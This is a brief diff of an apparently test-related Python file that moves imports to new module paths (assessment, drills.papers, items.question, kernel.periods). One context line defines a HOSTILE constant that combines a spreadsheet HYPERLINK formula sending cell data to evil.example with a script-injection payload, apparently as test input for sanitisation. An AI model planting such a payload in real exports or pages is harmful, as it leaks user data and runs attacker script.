@@ -4,16 +4,16 @@ from __future__ import annotations
 
 from decimal import Decimal
 
-from lianbing.domain.assessment import (
+from lianbing.domain.assessment.assessment import (
     Candidate,
     Level,
     MarkedItem,
     PartWeight,
     Scheme,
 )
-from lianbing.domain.items import Skill
-from lianbing.domain.papers import Basis, Employee
-from lianbing.domain.periods import Span
+from lianbing.domain.drills.papers import Basis, Employee
+from lianbing.domain.items.question import Skill
+from lianbing.domain.kernel.periods import Span
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
 SCHEME = Scheme(
